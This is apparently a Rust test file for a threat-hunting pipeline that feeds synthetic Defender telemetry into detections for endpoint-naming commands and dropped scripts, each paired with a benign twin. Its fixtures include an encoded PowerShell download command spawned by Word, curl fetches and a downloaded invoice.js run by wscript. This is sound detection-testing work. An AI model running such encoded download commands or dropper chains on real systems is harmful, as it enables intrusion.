//! What processes, scripts and files tell beside traffic, with a benign twin of each.

#![allow(clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

use std::fs;

use coldtrail_model::{Finding, Report, Timestamp};
use coldtrail_pipeline::{Hunt, hunt};

const NOW: Timestamp = Timestamp(1_777_593_600_000_000);

const HOST: &str = "coldtrail-range.cold.workers.dev";

/// `iwr https://coldtrail-range.cold.workers.dev/x`, as PowerShell takes it.
const ENCODED: &str = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBvAGwAZAB0AHIAYQBpAGwALQByAGEAbgBnAGUALgBjAG8AbABkAC4AdwBvAHIAawBlAHIAcwAuAGQAZQB2AC8AeAA=";

/// A day of Defender's telemetry. Each row begins with the time of the day and the host.
fn report(rows: &[String]) -> Report {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("log.csv");
    let header = "Timestamp,DeviceName,ActionType,FileName,FolderPath,ProcessCommandLine,RemoteIP,\
                  RemoteUrl,InitiatingProcessFileName,InitiatingProcessFolderPath\n";
    let rows = rows.iter().map(|row| format!("2026-04-13T{row}\n"));
    let log: String = [header.to_owned()].into_iter().chain(rows).collect();
    fs::write(&path, log).expect("a log");
    hunt(Hunt::over(&[path.display().to_string()], NOW).expect("a hunt")).expect("a report")
}

fn started(at: &str, host: &str, parent: &str, image: &str, line: &str) -> String {
    format!("{at}Z,{host},ProcessCreated,{image},C:\\Windows\\System32\\{image},{line},,,{parent},")
}

fn written(at: &str, host: &str, file: &str) -> String {
    let path = format!("C:\\Users\\kim\\Downloads\\{file}");
    format!("{at}Z,{host},FileCreated,{file},{path},,,,outlook.exe,")
}

fn connected(at: &str, host: &str, image: &str, folder: &str) -> String {
    format!("{at}Z,{host},ConnectionSuccess,,,,192.0.2.9,{HOST},{image},{folder}{image}")
}

fn told<'r>(report: &'r Report, host: &str, detection: &str) -> Vec<&'r Finding> {
    let is_it = |finding: &&Finding| {
        finding.actor.host == host
            && finding.signals.iter().any(|signal| signal.detection == detection)
    };
    report.findings.iter().filter(is_it).collect()
}

fn points(finding: &Finding, name: &str) -> Option<i16> {
    finding.contributions.iter().find(|one| one.name == name).map(|one| one.points)
}

#[test]
fn a_command_that_names_an_endpoint_is_told_and_a_click_is_not() {
    let url = format!("https://{HOST}/x");
    let report = report(&[
        started(
            "09:00:00",
            "ws-1",
            "winword.exe",
            "powershell.exe",
            &format!("powershell -enc {ENCODED}"),
        ),
        started("09:00:00", "ws-2", "cmd.exe", "curl.exe", &format!("curl {url}")),
        connected("09:00:01", "ws-2", "curl.exe", r"C:\Windows\System32\"),
        started(
            "09:00:00",
            "ws-3",
            "outlook.exe",
            "chrome.exe",
            &format!("chrome --single-argument {url}"),
        ),
        started("09:00:00", "ws-4", "explorer.exe", "cmd.exe", &format!("cmd /c curl {url}")),
        started("09:00:01", "ws-4", "cmd.exe", "curl.exe", &format!("curl {url}")),
        started(
            "09:00:00",
            "ws-5",
            "svchost.exe",
            "powershell.exe",
            r"powershell -File C:\scripts\backup.ps1",
        ),
    ]);
    let alone = told(&report, "ws-1", "endpoint.mention");
    let [alone] = alone.as_slice() else { panic!("{} findings", alone.len()) };
    assert_eq!(points(alone, "mention"), Some(30));
    assert_eq!(alone.endpoint.host, HOST);
    assert!(alone.title.contains(" names "), "{}", alone.title);
    assert!(alone.signals[0].summary.contains(", encoded, "), "{}", alone.signals[0].summary);
    // Beside traffic it is part of that story.
    let beside = told(&report, "ws-2", "endpoint.mention");
    let [beside] = beside.as_slice() else { panic!("{} findings", beside.len()) };
    assert_eq!(points(beside, "mention"), Some(8));
    assert!(points(beside, "script host").is_some());
    // A shell that only starts what names the endpoint is not told beside it.
    let child = told(&report, "ws-4", "endpoint.mention");
    let processes: Vec<_> = child.iter().map(|one| one.actor.process.as_deref()).collect();
    assert_eq!(processes, [Some("curl.exe")]);
    for quiet in ["ws-3", "ws-5"] {
        assert!(told(&report, quiet, "endpoint.mention").is_empty(), "{quiet}");
    }
}

#[test]
fn a_script_that_was_dropped_and_run_is_told_and_an_older_one_is_not() {
    let line = r"wscript.exe C:\Users\kim\Downloads\invoice.js";
    let script = |host: &str| started("09:02:00", host, "explorer.exe", "wscript.exe", line);
    let system = r"C:\Windows\System32\";
    let report = report(&[
        written("09:00:00", "ws-1", "invoice.js"),
        script("ws-1"),
        connected("09:03:00", "ws-1", "wscript.exe", system),
        // It lay there for long before anything was contacted.
        written("09:00:00", "ws-2", "invoice.js"),
        script("ws-2"),
        connected("10:30:00", "ws-2", "wscript.exe", system),
        // Another file was written, whose name is a part of it.
        written("09:00:00", "ws-3", "voice.js"),
        script("ws-3"),
        connected("09:03:00", "ws-3", "wscript.exe", system),
        // A program that says itself where it lies.
        written("09:00:00", "ws-4", "setup.exe"),
        connected("09:01:00", "ws-4", "setup.exe", r"C:\Users\kim\Downloads\"),
    ]);
    for (host, expected) in [("ws-1", 10), ("ws-4", 5)] {
        let found = told(&report, host, "endpoint.dropped_script");
        let [finding] = found.as_slice() else { panic!("{} findings on {host}", found.len()) };
        assert_eq!(points(finding, "dropped script"), Some(expected), "{host}");
    }
    let first = told(&report, "ws-1", "endpoint.dropped_script")[0];
    let signal = first.signals.iter().find(|one| one.detection == "endpoint.dropped_script");
    let signal = signal.expect("told above");
    assert!(
        signal.summary.contains(r"ran C:\Users\kim\Downloads\invoice.js"),
        "{}",
        signal.summary
    );
    assert_eq!(signal.records.len(), 2, "the file and the process");
    for quiet in ["ws-2", "ws-3"] {
        assert!(told(&report, quiet, "endpoint.dropped_script").is_empty(), "{quiet}");
    }
}
